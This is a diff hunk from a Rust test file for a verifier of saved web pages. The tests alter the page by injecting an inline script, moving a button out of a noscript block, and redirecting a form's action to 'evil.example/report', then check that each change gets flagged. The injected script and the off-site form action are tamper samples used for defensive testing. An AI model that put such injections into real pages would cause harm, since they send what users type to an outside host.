@@ -150,6 +150,13 @@ fn a_saved_copy_is_the_same_until_a_byte_of_it_changes() {
     let inline = page.replacen("<main>", "<main><script>send(1)</script>", 1);
     let said = saved.verify_with("index.html", inline.as_bytes());
     assert!(said.contains("carries a script inside the page"), "{said}");
+    let away = page.replacen("<noscript><button", "<button", 1);
+    assert_ne!(page, away);
+    let said = saved.verify_with("index.html", away.as_bytes());
+    assert!(
+        said.contains("would send what is typed without locking it"),
+        "{said}"
+    );
     let away = page.replacen(
         "formaction=/report",
         "formaction=\"//evil.example/report\"",
